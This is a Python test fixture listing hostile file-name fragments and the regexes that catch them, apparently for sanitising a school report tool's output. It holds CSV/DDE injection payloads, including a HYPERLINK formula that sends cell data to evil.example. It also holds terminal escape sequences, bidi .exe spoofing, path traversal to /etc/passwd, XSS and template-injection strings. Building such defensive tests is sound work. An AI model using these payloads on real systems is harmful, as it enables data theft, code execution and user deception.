"""File names as an attacker (or a careless phone) would give them: one list for every output.

Hand-made from the classes OWASP's CSV-injection page, the Unicode bidi spoofing advisories
(CVE-2021-42574 "Trojan Source", RLO file-name spoofing) and terminal escape-sequence injection
write-ups describe. Each is a fragment; the tests add a school and a period to some of them so
they reach the status rows, and leave the others unmatched.
"""

from __future__ import annotations

import re
import unicodedata

FRAGMENTS: tuple[str, ...] = (
    # spreadsheet formulas (OWASP CSV injection)
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 cr first",
    '＝HYPERLINK("http://evil.example")',
    " =1+1 space first",
    '=DDE("cmd";"/C calc";"x")',
    # line breaks: header injection, fake lines
    "Báo cáo\r\nBcc: evil@example.com",
    "Báo cáo\nSubject: spoofed",
    # C0 and C1 controls
    "nul\x00byte",
    "bell\x07 backspace\x08\x08 vt\x0b ff\x0c",
    "\x1b[2J\x1b[H clear screen",
    "\x1b]0;window title\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "c1 \x85 nel \x9b csi \x9d osc",
    "del\x7fchar",
    "mixed \x1b[31mred\x1b[0m =1",
    # bidi: names that read backwards
    "MN Tân Phong bao cao nam 2023\u202excod.exe",
    "\u202ertl override first",
    "lro \u202d and pdf \u202c",
    "isolates \u2066\u2067\u2068\u2069 end",
    "marks \u200e\u200f\u061c end",
    "line sep \u2028 para sep \u2029 end",
    "zero\u200bwidth\ufeffbom",
    # emoji and long names
    "emoji 📄✅🏫👩‍🏫",
    "flag 🇻🇳 skin 👍🏽",
    "A" * 310,
    "Báo cáo tổng kết " * 20,
    "NFD " + unicodedata.normalize("NFD", "Trường Tiểu học Đống Đa"),
    # paths
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\evil",
    "/absolute/evil",
    "CON",
    "nul.txt",
    "trailing dot...",
    "   ",
    # HTML, templates, markup, format strings
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    "&amp;&lt; entity",
    "{{ 7*7 }} ${7*7} #{7*7}",
    "[bold red]rich markup[/] [link=http://evil.example]x[/link]",
    "%s%n%x format",
    "=?utf-8?b?U3ViamVjdA==?= encoded word",
)

# Control characters (C0, DEL, C1), line/paragraph separators, and the direction characters.
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# The same, with the line ends a text format uses between its own lines.
UNSAFE_IN_TEXT = re.compile(
    "[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
